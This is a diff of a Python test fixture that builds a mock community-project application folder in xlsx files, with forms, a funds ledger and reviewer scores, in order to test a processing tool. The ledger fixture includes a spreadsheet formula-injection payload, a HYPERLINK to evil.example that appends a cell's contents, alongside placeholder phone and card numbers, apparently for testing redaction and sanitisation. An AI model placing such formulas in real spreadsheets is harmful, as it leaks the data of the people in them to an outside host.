@@ -29,63 +29,73 @@ INVOICE_CARD = "6222 0212 3456 7890"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B7,"核对 13812345678")'
 
 
-def _folder(root: Path) -> Path:
+def hostile_folder(
+    root: Path,
+    projects: list[tuple[str, str]],
+    ledger: list[tuple],
+    form: dict | None = None,
+) -> Path:
+    """A 浦兴 folder of one application a (项目名称, 居民区) of `projects` (PX-2023-000, -001 …),
+    these ledger rows and five reviewers' scores for each; `form`: fields every form adds."""
     write_config(root, "puxing-2023")
-    for i in range(3):
+    for i, (name, hood) in enumerate(projects):
         write_form(
             root / f"申报/{i}.xlsx",
             {
                 "项目编号": f"PX-2023-00{i}",
-                "项目名称": f"楼道微更新{i} 联系{NAME_PHONE}",
+                "项目名称": name,
                 "项目类别": "悦家",
-                "居民区": f"浦兴{i}居 {HOOD_PHONE}",
+                "居民区": hood,
                 "申报主体": "居委会",
                 "项目负责人": "张三丰",
                 "申请金额": 10000,
                 "开始日期": date(2023, 4, 1),
                 "结束日期": date(2023, 12, 31),
+                **(form or {}),
             },
             budget=[("工作经费", "物资", 10000), ("合计", None, 10000)],
             members=[("张三丰", "负责人", "是", "否")],
         )
-    write_table(
-        root / "经费台账.xlsx",
-        "经费台账",
-        LEDGER_HEADER,
-        [
-            (
-                date(2023, 5, 2),
-                "PX-2023-000",
-                "工作经费",
-                f"物资 {DESC_PHONE}",
-                500,
-                INVOICE_CARD,
-                "某店",
-                "商户",
-                "是",
-                HYPERLINK,
-            ),
-            (
-                date(2023, 5, 3),
-                "PX-2023-001",
-                "工作经费",
-                "物资",
-                "x",
-                "03100190",
-                "某店",
-                "商户",
-                "是",
-                "",
-            ),
-        ],
-    )
+    write_table(root / "经费台账.xlsx", "经费台账", LEDGER_HEADER, ledger)
+    n = len(projects)
     write_table(
         root / "评审打分.xlsx",
         "评审打分",
         SCORES_HEADER,
-        [(f"PX-2023-00{i}", f"评审{r}", 80 + i + r) for i in range(3) for r in range(5)],
+        [(f"PX-2023-00{i}", f"评审{r}", 80 + i + r) for i in range(n) for r in range(5)],
     )
     return root
+
+
+def _folder(root: Path) -> Path:
+    projects = [(f"楼道微更新{i} 联系{NAME_PHONE}", f"浦兴{i}居 {HOOD_PHONE}") for i in range(3)]
+    ledger = [
+        (
+            date(2023, 5, 2),
+            "PX-2023-000",
+            "工作经费",
+            f"物资 {DESC_PHONE}",
+            500,
+            INVOICE_CARD,
+            "某店",
+            "商户",
+            "是",
+            HYPERLINK,
+        ),
+        (
+            date(2023, 5, 3),
+            "PX-2023-001",
+            "工作经费",
+            "物资",
+            "x",
+            "03100190",
+            "某店",
+            "商户",
+            "是",
+            "",
+        ),
+    ]
+    return hostile_folder(root, projects, ledger)
 
 
 def _run(*args) -> object:
